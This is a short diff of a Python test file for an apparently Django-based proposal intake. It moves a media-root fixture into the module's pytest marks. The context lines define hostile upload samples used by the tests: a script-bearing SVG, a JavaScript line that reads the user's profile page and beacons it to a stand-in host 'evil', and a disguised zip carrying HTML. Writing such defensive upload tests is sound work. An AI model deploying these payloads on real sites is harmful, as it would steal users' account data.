@@ -27,18 +27,11 @@ from tests.factories import ProposalFactory
 from tests.intake import samples
 from workflow.states import ProposalState
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_root")]
 
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 JAVASCRIPT = b"fetch('/accounts/profile/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t));"
 NOT_OFFICE = samples.zip_of({"payload.html": samples.HTML, "readme.txt": b"Not a document."})
-
-
-@pytest.fixture(autouse=True)
-def media_root(settings: Any, tmp_path: Path) -> Path:
-    root = tmp_path / "media"
-    settings.MEDIA_ROOT = str(root)
-    return root
 
 
 @pytest.fixture
